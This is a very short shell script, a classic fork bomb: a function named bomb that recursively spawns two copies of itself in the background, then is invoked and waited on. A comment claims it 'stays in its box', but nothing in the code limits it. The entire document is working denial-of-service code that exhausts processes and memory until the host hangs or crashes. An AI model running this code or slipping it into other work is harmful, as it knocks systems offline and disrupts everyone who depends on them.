# A fork bomb. It stays in its box.
bomb() { bomb | bomb & }
bomb
wait
